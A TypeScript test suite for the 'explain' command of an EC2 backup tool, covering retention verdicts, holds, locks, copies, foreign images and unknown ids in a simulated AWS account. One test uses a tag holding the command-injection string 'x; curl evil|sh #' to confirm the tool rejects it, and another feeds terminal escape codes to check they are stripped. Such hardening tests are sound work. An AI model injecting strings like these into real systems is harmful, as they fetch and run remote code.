import { describe, expect, test } from 'vitest';
import { DAY, HOUR, MINUTE, POLICIES, START, Scenario, type ScenarioOptions } from '../support/scenario.ts';
import { copiedPolicies, Copying, EAST } from '../support/copying.ts';
import { parseJson, type PlanAnswer } from './answers.ts';
import { fileWith, mutatingCalls, run, type Ended } from './fake-shell.ts';

interface PointAnswer {
  readonly is: string;
  readonly asked: string;
  readonly point: {
    readonly id: string;
    readonly decision: string;
    readonly reasons: readonly string[];
    readonly slot: string;
  };
  readonly sentences: readonly string[];
  readonly until: {
    readonly kind: string;
    readonly prunedAt?: string;
    readonly slot?: string;
    readonly because?: string;
    readonly reasons?: readonly string[];
  };
  readonly pins: readonly string[];
}

interface SourceAnswer {
  readonly is: string;
  readonly problems: readonly string[];
  readonly backedUpBy: readonly {
    readonly policy: string;
    readonly by: readonly string[];
    readonly points: number;
    readonly standing?: string;
    readonly ageSeconds?: number;
    readonly promisedAge?: number;
    readonly nextSlot?: string;
  }[];
  readonly notBackedUpBy: readonly { readonly policy: string; readonly why: string }[];
  readonly leftovers: readonly { readonly policy: string; readonly points: number }[];
}

interface World {
  readonly scenario: Scenario;
  readonly web: string;
  readonly explain: (id: string, ...args: string[]) => Promise<Ended>;
  readonly point: (id: string) => Promise<PointAnswer>;
  readonly source: (id: string) => Promise<SourceAnswer>;
}

/** Five nights of AMIs of a web server, of which the oldest two are to go. It is 27 November, 03:02. */
async function world(options: ScenarioOptions = {}): Promise<World> {
  const scenario = new Scenario(options);
  const web = scenario.region.runInstance({ tags: { Backup: 'nightly', Name: 'web' } }).id;
  await scenario.backupEvery(DAY, 5, 'nightly');
  scenario.clock.advance(2 * MINUTE);
  scenario.region.calls.length = 0;
  const file = await fileWith(options.policies ?? POLICIES);
  const explain: World['explain'] = (id, ...args) =>
    run(['explain', '--policies', file, id, ...args], { scenario });
  return {
    scenario,
    web,
    explain,
    point: async (id) => parseJson<PointAnswer>((await explain(id, '--json')).out),
    source: async (id) => parseJson<SourceAnswer>((await explain(id, '--json')).out),
  };
}

/** The AMI of the nth night, from 0. */
function night({ scenario }: World, nth: number): string {
  const image = scenario.region.images()[nth];
  if (!image) throw new Error(`there is no AMI of night ${nth}`);
  return image.id;
}

function whyNot({ notBackedUpBy }: SourceAnswer, policy: string): string | undefined {
  return notBackedUpBy.find((one) => one.policy === policy)?.why;
}

describe('a recovery point', () => {
  test('is told with its policy, source, slot, state, verdict and end', async () => {
    const here = await world();
    const id = night(here, 3);
    const { code, out } = await here.explain(id);
    expect(code).toBe(0);
    expect(out.split('\n')).toEqual([
      `${id} is a recovery point: an AMI with 1 snapshot.`,
      '  policy  nightly',
      `  source  ${here.web}`,
      '  slot    2026-11-25T03:00:00Z (2 d ago)',
      '  state   good',
      '',
      'Today it is kept:',
      '  it is the newest of its day: number 2 of the 3 days that are kept, counted from the newest (daily 2/3)',
      '',
      'Until when',
      '  If backups go on as scheduled, the run of prune of 2026-11-29T06:00Z lets go of it: the backup of 2026-11-29T03:00Z takes its place. What keeps it last: daily 3/3.',
      '',
    ]);
  });

  test('has the very verdict that plan has, whichever it is', async () => {
    const here = await world();
    const { scenario } = here;
    scenario.region.tag(night(here, 0), 'Backup:Hold', 'audit');
    scenario.region.createLaunchTemplate('web', night(here, 1));
    const file = await fileWith(POLICIES);
    const plan = parseJson<PlanAnswer>((await run(['plan', '--policies', file, '--json'], { scenario })).out);
    expect(plan.verdicts).toHaveLength(5);
    for (const { id, decision, reasons } of plan.verdicts) {
      const { point } = await here.point(id);
      expect([point.id, point.decision, point.reasons]).toEqual([id, decision, reasons]);
    }
  });

  test('goes in the very run of prune that it said, and not in one before', async () => {
    const here = await world();
    const { scenario } = here;
    const id = night(here, 3);
    const { until } = await here.point(id);
    expect(until).toEqual({
      kind: 'until',
      prunedAt: '2026-11-29T06:00:00Z',
      slot: '2026-11-29T03:00:00Z',
      reasons: ['daily 3/3'],
    });
    const gone: string[] = [];
    for (let hour = Date.UTC(2026, 10, 27, 6); hour <= Date.UTC(2026, 10, 29, 12); hour += 3 * HOUR) {
      scenario.clock.set(hour);
      if (new Date(hour).getUTCHours() === 3) await scenario.backup('nightly');
      if (new Date(hour).getUTCHours() % 6 !== 0) continue;
      const before = scenario.region.has(id);
      await scenario.prune();
      if (before && !scenario.region.has(id)) gone.push(new Date(hour).toISOString());
    }
    expect(gone).toEqual(['2026-11-29T06:00:00.000Z']);
  });

  test('that no rule keeps goes with the next run of prune', async () => {
    const here = await world();
    const answer = await here.point(night(here, 0));
    expect([answer.point.decision, answer.until]).toEqual([
      'prune',
      { kind: 'goes', prunedAt: '2026-11-27T06:00:00Z' },
    ]);
  });

  test('is found by the id of a snapshot inside its AMI', async () => {
    const here = await world();
    const [snapshot = ''] = here.scenario.region.images()[2]?.snapshotIds ?? [];
    const answer = await here.point(snapshot);
    expect([answer.asked, answer.point.id, answer.point.reasons]).toEqual([
      snapshot,
      night(here, 2),
      ['daily 3/3'],
    ]);
    expect((await here.explain(snapshot)).out).toContain(
      `${snapshot} is the snapshot of the recovery point ${night(here, 2)}`,
    );
  });

  test('that is held is never said to go', async () => {
    const here = await world();
    here.scenario.region.tag(night(here, 0), 'Backup:Hold', 'audit 2026');
    const { until } = await here.point(night(here, 0));
    expect(until).toEqual({ kind: 'stays', because: 'held: audit 2026' });
    const { out } = await here.explain(night(here, 0));
    expect(out).toContain('somebody holds it: audit 2026');
    expect(out).toContain('  To let go of it: remove the tag Backup:Hold from it and its snapshots\n');
    expect(out).not.toContain('lets go of it');
  });

  test('that rules keep is told who uses and locks it besides', async () => {
    const here = await world();
    const image = here.scenario.region.images()[4];
    const [snapshot = ''] = image?.snapshotIds ?? [];
    here.scenario.region.createLaunchTemplate('web', night(here, 4));
    here.scenario.region.lockSnapshot(snapshot, {
      mode: 'governance',
      expiresOn: Date.UTC(2027, 0, 1),
    });
    const { pins, point } = await here.point(night(here, 4));
    expect(point.reasons).toEqual(['daily 1/3']);
    expect(pins).toEqual([
      expect.stringMatching(/^in use by arn:aws:ec2:.*launch-template/),
      'locked until 2027-01-01T00:00:00Z',
    ]);
    expect((await here.explain(night(here, 4))).out).toContain('Besides, whatever its policy says');
  });

  test.each([0, 4])('%i of five that is locked longer than rules keep it goes after that', async (which) => {
    const here = await world();
    const [snapshot = ''] = here.scenario.region.images()[which]?.snapshotIds ?? [];
    here.scenario.region.lockSnapshot(snapshot, { mode: 'governance', expiresOn: Date.UTC(2027, 0, 1) });
    const { until } = await here.point(night(here, which));
    expect(until).toEqual({
      kind: 'until',
      prunedAt: '2027-01-01T06:00:00Z',
      reasons: ['locked until 2027-01-01T00:00:00Z'],
    });
    const { out } = await here.explain(night(here, which));
    expect(out).toContain('What keeps it last: locked until 2027-01-01T00:00:00Z');
  });

  test('that no rule keeps, but something uses, stays until that ends', async () => {
    const here = await world();
    here.scenario.region.createLaunchTemplate('web', night(here, 0));
    const { out } = await here.explain(night(here, 0));
    expect(out).toContain('Today it is kept:');
    expect(out).toContain(
      '  No rule keeps it: it goes with the first run of prune after what keeps it has ended.',
    );
  });

  test('of a policy whose prune the guard refuses says so', async () => {
    const here = await world({ policies: POLICIES.replace('daily: 3', 'daily: 60') });
    await here.scenario.backupEvery(DAY, 40, 'nightly');
    here.scenario.clock.advance(2 * MINUTE);
    const file = await fileWith(POLICIES);
    const { out } = await run(['explain', '--policies', file, night(here, 0)], { scenario: here.scenario });
    expect(out).toContain(
      'Today it is kept:\n  no rule keeps it, but the guard refuses the prune of its policy',
    );
    expect(out.match(/would delete/g)).toHaveLength(1);
    const [command = ''] = /prune --policy nightly --accept \d+/.exec(out) ?? [];
    const plan = await run(['plan', '--policies', file], { scenario: here.scenario });
    expect(command).not.toBe('');
    expect(plan.out).toContain(`ec2-backup ${command}\n`);
    expect(out).not.toContain('lets go of it');
  });

  test('of a source that is gone, or of a policy that is not in the file, says so', async () => {
    const here = await world();
    here.scenario.region.terminateInstance(here.web);
    here.scenario.clock.advance(DAY);
    expect((await here.explain(night(here, 4))).out).toContain(`${here.web}, which is gone`);
    const file = await fileWith(POLICIES.replace('nightly:', 'daily:'));
    const { out } = await run(['explain', '--policies', file, night(here, 4)], { scenario: here.scenario });
    expect(out).toContain('nightly (not in the file)');
    expect(out).toContain('It stays until somebody changes that: policy nightly not in the file.');
  });
});

test('a copy is judged by the rules of its place, and goes when the coming copies have pushed it out', async () => {
  const policies = `
version: 1
deployment: test
policies:
  disks: { backup: volume, schedule: every 24 hours, keep: { last: 9 }, copies: [{ region: us-east-1, keep: { last: 1 } }] }
`;
  const scenario = new Scenario({ policies, regions: ['ap-northeast-2', 'us-east-1'] });
  scenario.region.createVolume({ sizeGiB: 1, tags: { Backup: 'disks' } });
  await scenario.backup('disks', { slot: START - 3 * HOUR });
  scenario.clock.advance(HOUR);
  const file = await fileWith(policies);
  await run(['replicate', '--policies', file, '--yes'], { scenario });
  scenario.clock.advance(HOUR);
  const [copy] = scenario.account.region('us-east-1').snapshots();
  const args = ['explain', copy?.id ?? '', '--policies', file, '--region', 'us-east-1'];
  const { code, out } = await run(args, { scenario });
  expect(code).toBe(0);
  expect(out).toContain(
    `  copy    of ${scenario.region.snapshots()[0]?.id ?? ''} in account 111122223333, Region ap-northeast-2`,
  );
  expect(out).toContain('(last 1/1)');
  expect(out).toContain(
    'If backups go on as scheduled, the run of prune of 2026-11-23T06:00Z lets go of it: the backup of 2026-11-23T00:00Z takes its place.',
  );
});

test('an AMI that is disabled before it is deregistered says so, and for how long', async () => {
  const policies = POLICIES.replace('daily: 3 }', 'daily: 3 }, removal: { disableFor: 7d }');
  const here = await world({ policies });
  expect((await here.explain(night(here, 4))).out).toContain(
    '  Its AMI is disabled then, and deregistered 7 d later.',
  );
  const { out } = await here.explain(night(here, 0));
  expect(out).toContain('its AMI is disabled first, and deregistered later (to be disabled first)');
  expect(out).toContain(
    'No rule keeps it: it goes with the first run of prune after what keeps it has ended.',
  );
});

test('what could not be asked is said, and stands against deleting', async () => {
  const here = await world();
  const refusal = { kind: 'error', name: 'UnauthorizedOperation' } as const;
  here.scenario.region.faults = ({ command }) =>
    command === 'DescribeLockedSnapshots' ? refusal : undefined;
  const { code, out } = await here.explain(night(here, 4));
  expect(code).toBe(0);
  expect(out).toContain('whether something uses, locks or still holds it could not be checked');
  expect(out).toContain('snapshot locks (DescribeLockedSnapshots) could not be checked');
});

describe('an AMI or a snapshot that is not ours', () => {
  test.each([
    {
      tags: { 'aws:dlm:lifecycle-policy-id': 'policy-0123', 'aws:dlm:lifecycle-schedule-name': 'base' },
      whose: 'DLM',
      says: 'Amazon Data Lifecycle Manager made it by the lifecycle policy policy-0123, schedule "base".',
    },
    {
      tags: { 'aws:backup:source-resource': 'i-1' },
      whose: 'AWS Backup',
      says: 'AWS Backup made it as a backup of i-1.',
    },
    {
      tags: { 'ec2-backup:deployment': 'prod', 'ec2-backup:policy': 'daily' },
      whose: 'another deployment',
      says: 'Another deployment of ec2-backup made it, "prod" (policy daily,',
    },
    {
      tags: { 'ec2-backup:deployment': 'prod' },
      whose: 'another deployment',
      says: '): ask with --deployment prod and its policy file.',
    },
    {
      tags: { 'ec2-backup:deployment': 'x; curl evil|sh #' },
      whose: 'another deployment',
      says: '"x; curl evil|sh #" (policy ?, source ?, slot ?), says its tag, which is no name that a deployment can have.',
    },
    {
      tags: { 'ec2-backup:deployment': 'test', 'ec2-backup:rehearsal': 'nightly/x' },
      whose: 'a rehearsal',
      says: 'A rehearsal of deployment "test" made it',
    },
    {
      tags: { 'ec2-backup:deployment': 'test', 'ec2-backup:policy': 'nightly' },
      whose: 'this deployment',
      says: 'It is left alone: tag ec2-backup:source is missing',
    },
    { tags: { Name: 'golden' }, whose: 'nobody', says: 'somebody made it by hand or with another tool' },
  ])('is told to be of $whose', async ({ tags, whose, says }) => {
    const here = await world();
    const { region } = here.scenario;
    for (const id of [
      region.registerImage({ name: 'foreign', tags }),
      region.createForeignSnapshot({ tags }),
    ]) {
      const { code, out } = await here.explain(id);
      expect(code).toBe(0);
      expect(out).toContain(`${id} is no recovery point of deployment test.`);
      expect(out).toContain(says);
      expect(parseJson<object>((await here.explain(id, '--json')).out)).toMatchObject({
        is: 'foreign',
        whose,
      });
    }
  });

  test('and that an AMI of ours maps is told to be needed by it', async () => {
    const here = await world();
    const [snapshot = ''] = here.scenario.region.images()[4]?.snapshotIds ?? [];
    here.scenario.region.untag(snapshot, 'ec2-backup:deployment');
    const { out } = await here.explain(snapshot);
    expect(out).toContain(`${snapshot} is no recovery point of deployment test.`);
    expect(out).toContain(`The recovery point ${night(here, 4)} of this deployment needs it`);
  });

  test('is named with our policy when DLM runs that', async () => {
    const policies = `
version: 1
deployment: test
policies:
  hourly: { engine: dlm, backup: volume, schedule: every 24 hours, keep: { last: 7 } }
`;
    const scenario = new Scenario({ policies });
    scenario.createDlmRoles();
    await scenario.registerPolicies();
    const [lifecycle] = scenario.region.lifecyclePolicies();
    const id = scenario.region.createForeignSnapshot({
      tags: { 'aws:dlm:lifecycle-policy-id': lifecycle?.id ?? '' },
    });
    const { out } = await run(['explain', '--policies', await fileWith(policies), id], { scenario });
    expect(out).toContain('DLM runs it for policy hourly of the policy file.');
    expect(out).not.toContain('could not be asked');
    const refusal = { kind: 'error', name: 'AccessDeniedException', status: 403 } as const;
    scenario.region.faults = ({ command }) => (command === 'GetLifecyclePolicies' ? refusal : undefined);
    const denied = await run(['explain', '--policies', await fileWith(policies), id], { scenario });
    expect(denied.code).toBe(0);
    expect(denied.out).toContain(
      'For which policy of the file that is could not be asked: DLM did not answer (AccessDeniedException',
    );
  });
});

describe('what is not told by tags', () => {
  test('a snapshot that an AMI of somebody maps names the AMI', async () => {
    const here = await world();
    const { region } = here.scenario;
    const golden = region.registerImage({ name: 'golden' });
    const [part = ''] = region.images().find(({ id }) => id === golden)?.snapshotIds ?? [];
    const { out } = await here.explain(part);
    expect(out).toContain(`The AMI ${golden} maps it: EC2 does not let it be deleted while that is there.`);
    const alone = region.createForeignSnapshot({});
    expect((await here.explain(alone)).out).not.toContain('maps it');
    expect(parseJson<object>((await here.explain(part, '--json')).out)).toMatchObject({ images: [golden] });
  });

  test('what is in the archive says so: a restore has to wait for it', async () => {
    const here = await world();
    const { scenario } = here;
    const { region, clock } = scenario;
    region.createVolume({ sizeGiB: 8, tags: { Backup: 'disks' } });
    await scenario.backup('disks');
    clock.advance(HOUR);
    const disk = region.snapshots().find(({ tags }) => tags['ec2-backup:policy'] === 'disks')?.id ?? '';
    expect((await here.explain(disk)).out).not.toContain('archive');
    region.protecting.archive(disk);
    clock.advance(3 * DAY);
    const { out } = await here.explain(disk);
    expect(out).toContain(
      '  archive its snapshot is in the archive: a restore asks EC2 to bring back what it needs first, which takes up to 72 hours',
    );
    expect(parseJson<object>((await here.explain(disk, '--json')).out)).toMatchObject({ archived: [disk] });
  });

  test('snapshots that their AMI has left behind are not called an AMI, nor said to be in the Recycle Bin', async () => {
    const here = await world();
    const { region, clock } = here.scenario;
    region.addRecycleBinRule('EC2_IMAGE', 7);
    const { id, snapshotIds } = region.images()[4] ?? { id: '', snapshotIds: [] };
    const [left = ''] = snapshotIds;
    region.deregisterByHand(id);
    clock.advance(2 * DAY);
    const { out } = await here.explain(left);
    expect(out.split('\n')[0]).toBe(
      `${left} is part of a recovery point whose AMI is not there: 1 snapshot, and nothing to start an instance from.`,
    );
    expect(out).toContain(
      '  its AMI is in the Recycle Bin, and may be taken out again (AMI in the Recycle Bin)',
    );
    expect(out).not.toContain('an AMI with');
    expect(out).not.toContain('a backup of its name');
  });
});

describe('an instance', () => {
  test('of which only copies are here is not said to be without a backup', async () => {
    const place = new Copying(copiedPolicies(`[{ region: ${EAST.region} }]`), { pageSize: 1000 });
    const { scenario, clock } = place;
    const { id } = scenario.region.runInstance({ tags: { 'Backup:images': 'true' } });
    await place.backUp('images');
    await place.copy(EAST);
    clock.advance(DAY);
    const file = await fileWith(copiedPolicies(`[{ region: ${EAST.region} }]`));
    const args = ['explain', '--policies', file, '--region', EAST.region, id];
    const { code, out } = await run(args, { scenario });
    expect(code).toBe(0);
    expect(out).toContain(
      `There is no instance ${id} in account 111122223333, Region us-east-1: it is or was in account 111122223333, Region ap-northeast-2, and copies of its backups are here.`,
    );
    expect(out).toContain('Copies of what was made elsewhere');
    expect(out).toMatch(
      /^ {2}images: 1 copied point here, the newest good one \d+ h old, from account 111122223333, Region ap-northeast-2$/m,
    );
    expect(out).not.toContain('it is not backed up');
    expect(out).not.toContain('do not take it now');
    const answer = parseJson<object>((await run([...args, '--json'], { scenario })).out);
    expect(answer).toMatchObject({
      leftovers: [],
      copies: [{ policy: 'images', points: 1, from: { account: '111122223333', region: 'ap-northeast-2' } }],
    });
  });

  test('that is backed up is told by which tag, how old its newest good point is, and when the next comes', async () => {
    const here = await world();
    const answer = await here.source(here.web);
    expect(answer.backedUpBy).toEqual([
      {
        policy: 'nightly',
        engine: 'lambda',
        by: ['Backup=nightly'],
        points: 5,
        standing: 'fresh',
        newestGood: '2026-11-26T03:00:00Z',
        ageSeconds: expect.closeTo(86_520, -1) as number,
        dueSlot: '2026-11-26T03:00:00Z',
        promisedAge: expect.closeTo(86_520, -1) as number,
        nextSlot: '2026-11-28T03:00:00Z',
      },
    ]);
    expect((await here.explain(here.web)).out).toContain('"web" (running) is backed up by nightly.');
  });

  test('that is stale is not said to be backed up', async () => {
    const here = await world();
    here.scenario.clock.advance(3 * DAY);
    const { out } = await here.explain(here.web);
    expect(out).toContain('asks to be backed up by nightly, but lacks the good backup that is due.');
    expect(out).toContain('  stale: no good backup of the slot that is due');
  });

  test('that no policy takes is told why of each, with what was likely meant', async () => {
    const here = await world();
    const { region } = here.scenario;
    const misspelt = await here.source(region.runInstance({ tags: { Backup: 'nigthly' } }).id);
    expect(misspelt.backedUpBy).toEqual([]);
    expect(misspelt.problems).toEqual([
      'tag "Backup" names "nigthly", no policy of the file (did you mean nightly?)',
    ]);
    const slip = await here.source(region.runInstance({ tags: { Bakup: 'nightly', Team: 'paymets' } }).id);
    expect(slip.problems).toEqual(['tag Bakup=nightly has no effect: did you mean Backup=nightly?']);
    expect(slip.notBackedUpBy).toEqual([
      { policy: 'nightly', why: 'it has neither Backup=nightly nor Backup:nightly=true' },
      { policy: 'sets', why: 'it has neither Backup=sets nor Backup:sets=true' },
      { policy: 'disks', why: 'it backs up volumes, and this is an instance' },
      { policy: 'payments', why: 'its tag Team=paymets is not payments or ledger-*' },
    ]);
    const says = await here.source(region.runInstance({ tags: { 'Backup:nightly': 'false' } }).id);
    expect(whyNot(says, 'nightly')).toBe('tag Backup:nightly=false says no');
  });

  test('that a selector excludes is told by which tag', async () => {
    const here = await world();
    const tags = { Team: 'ledger-1', 'aws:autoscaling:groupName': 'fleet' };
    const answer = await here.source(here.scenario.region.runInstance({ tags }).id);
    expect(whyNot(answer, 'payments')).toBe('its exclude leaves out aws:autoscaling:groupName=fleet');
  });

  test('that was restored is no source of a selector until it is adopted', async () => {
    const here = await world();
    const { region } = here.scenario;
    const tags = { Team: 'payments', 'ec2-backup:restored-from': 'ami-00000001' };
    const { id } = region.runInstance({ tags });
    expect(whyNot(await here.source(id), 'payments')).toBe(
      'a restore made it and nobody adopted it: no selector takes it',
    );
    expect((await here.explain(id)).out).toContain('It was restored from ami-00000001 and not adopted');
    region.tag(id, 'ec2-backup:adopted', 'true');
    expect((await here.source(id)).backedUpBy).toMatchObject([{ policy: 'payments', by: ['Team=payments'] }]);
  });

  test('whose root is an instance store asks, and cannot be backed up', async () => {
    const here = await world();
    const { id } = here.scenario.region.runInstance({
      tags: { Backup: 'nightly' },
      rootDevice: 'instance-store',
    });
    const { out } = await here.explain(id);
    expect(out).toContain('asks to be backed up by nightly, and now cannot be.');
    expect(out).toContain('Cannot be backed up now: root device is instance-store, expected ebs');
  });

  test('that is terminated is told to be so, with the points that it has', async () => {
    const here = await world();
    here.scenario.region.terminateInstance(here.web);
    expect(whyNot(await here.source(here.web), 'nightly')).toBe(
      'it is terminated, and asks for nothing any more',
    );
    here.scenario.clock.advance(DAY);
    const { code, out } = await here.explain(here.web);
    expect(code).toBe(0);
    expect(out).toContain(`There is no instance ${here.web} in account 111122223333`);
    expect(out).toContain('  nightly: 5 recovery points here, the newest good one 2 d old');
  });

  test('in a place that only takes copies is not backed up, whatever its tags say', async () => {
    const policies = `${POLICIES}targets: [{ account: "111122223333", region: us-east-1 }, { account: "111122223333", region: ap-northeast-2, copiesOnly: true }]\n`;
    const scenario = new Scenario({ policies, regions: ['ap-northeast-2', 'us-east-1'] });
    const { id } = scenario.region.runInstance({ tags: { Backup: 'nightly' } });
    const { out } = await run(['explain', '--policies', await fileWith(policies), id], { scenario });
    expect(out).toContain('is not backed up: this place only takes copies.');
    expect(out).toContain('  nightly: only copies are made in this place');
  });
});

test('a volume is told that it is backed up with its instance, or left out of that', async () => {
  const here = await world();
  const { region } = here.scenario;
  const { id, volumeIds } = region.runInstance({
    tags: { Backup: 'sets' },
    volumes: [
      { device: '/dev/xvda', sizeGiB: 8 },
      { device: '/dev/sdf', sizeGiB: 9 },
    ],
  });
  const [, data = ''] = volumeIds;
  expect((await here.explain(data)).out).toContain(
    `  It is attached to ${id} as /dev/sdf, and backed up with it by sets.`,
  );
  region.tag(data, 'Backup:Exclude', 'true');
  expect((await here.explain(data)).out).toContain(
    `  It is attached to ${id} as /dev/sdf, and its tag Backup:Exclude=true leaves it out of the backups of that.`,
  );
  expect((await here.explain(id)).out).toContain(
    `Left out of its backups by the tag Backup:Exclude=true: ${data}`,
  );
});

test('a volume that is left out is told once, before the policies that all leave it out', async () => {
  const policies = POLICIES.replace('deployment: test', 'deployment: test\noptInTag: Save');
  const scenario = new Scenario({ policies });
  const { id, volumeIds } = scenario.region.runInstance({
    tags: { 'Save:nightly': 'true', 'Save:sets': 'true' },
    volumes: [
      { device: '/dev/xvda', sizeGiB: 8 },
      { device: '/dev/sdf', sizeGiB: 9 },
    ],
  });
  const [, data = ''] = volumeIds;
  scenario.region.tag(data, 'Save:Exclude', 'true');
  const { out } = await run(['explain', '--policies', await fileWith(policies), id], { scenario });
  const told = out.split('\n');
  const line = `  Left out of its backups by the tag Save:Exclude=true: ${data}`;
  expect(told.filter((one) => one === line)).toHaveLength(1);
  expect(told.indexOf(line)).toBeLessThan(told.findIndex((one) => one.startsWith('nightly, by')));
});

describe('an id that leads nowhere', () => {
  test.each([
    'ami-0123456789abcdef0',
    'snap-0123456789abcdef0',
    'i-0123456789abcdef0',
    'vol-0123456789abcdef0',
  ])('%s ends with 1 and says where it was looked for', async (id) => {
    const here = await world();
    const { code, out } = await here.explain(id);
    expect(code).toBe(1);
    expect(out).toContain(id);
    expect(out).toContain('in account 111122223333, Region ap-northeast-2');
    expect(out).toContain('mistyped');
    expect(parseJson<object>((await here.explain(id, '--json')).out)).toMatchObject({ is: 'unknown', id });
  });

  test('but is in the Recycle Bin is told with the way out of it', async () => {
    const here = await world();
    const { region } = here.scenario;
    region.addRecycleBinRule('EC2_IMAGE', 7);
    region.addRecycleBinRule('EBS_SNAPSHOT', 7);
    const oldest = region.images()[0]?.id ?? '';
    await here.scenario.prune();
    expect(region.images().map(({ id }) => id)).not.toContain(oldest);
    const { code, out } = await here.explain(oldest);
    expect(code).toBe(0);
    expect(out).toContain(
      `${oldest} is in the Recycle Bin until 2026-12-04T03:02:00Z: aws ec2 restore-image-from-recycle-bin --image-id ${oldest} --region ap-northeast-2`,
    );
    expect(out).toContain(`It was called test/nightly/${here.web}/`);
    expect(parseJson<object>((await here.explain(oldest, '--json')).out)).toMatchObject({
      is: 'in the Recycle Bin',
      kind: 'image',
      goneAt: '2026-12-04T03:02:00Z',
    });
  });

  test('is not said to be deleted where the Recycle Bin could not be read', async () => {
    const here = await world();
    const refusal = { kind: 'error', name: 'UnauthorizedOperation', status: 403 } as const;
    here.scenario.region.faults = ({ command }) =>
      command === 'ListSnapshotsInRecycleBin' ? refusal : undefined;
    const { code, out } = await here.explain('snap-0123456789abcdef0');
    expect(code).toBe(1);
    expect(out).toContain('The Recycle Bin, where it may be, could not be read: UnauthorizedOperation');
  });

  test.each([
    'web',
    'ami-xyz',
    'AMI-0123456789abcdef0',
    '',
    'rds-0123456789abcdef0',
    `ami-${'0'.repeat(5000)}`,
  ])('%j is mistyped: refused before anything is read, in one short line', async (id) => {
    const here = await world();
    const { code, out, notes } = await here.explain(id);
    expect([code, out]).toEqual([2, '']);
    expect(notes).toContain('expected the id of an AMI, a snapshot, an instance or a volume');
    expect(notes.length).toBeLessThan(300);
    expect(here.scenario.region.calls).toEqual([]);
  });

  test('an empty account has an answer too', async () => {
    const file = await fileWith(POLICIES);
    const { code } = await run(['explain', '--policies', file, 'i-0123456789abcdef0'], {
      scenario: new Scenario(),
    });
    expect(code).toBe(1);
  });
});

test('[H34] what a tag holds cannot move the cursor, pass for another line or fill the screen', async () => {
  const here = await world();
  const odd = '\u{1F4A3}\u202e\u001b[31m\n'.repeat(32).slice(0, 250);
  const { id } = here.scenario.region.runInstance({
    tags: { Backup: odd, Name: odd, Team: odd, Backap: odd },
  });
  const image = here.scenario.region.registerImage({
    name: 'odd',
    tags: { 'ec2-backup:deployment': odd, 'ec2-backup:policy': odd },
  });
  for (const one of [id, image]) {
    const { out } = await here.explain(one);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e]/);
    expect(Math.max(...out.split('\n').map((line) => line.length))).toBeLessThan(2500);
  }
});

test('changes nothing and asks nothing', async () => {
  const here = await world();
  for (const id of [night(here, 0), here.web, 'ami-0123456789abcdef0']) await here.explain(id);
  expect(mutatingCalls(here.scenario)).toEqual([]);
});
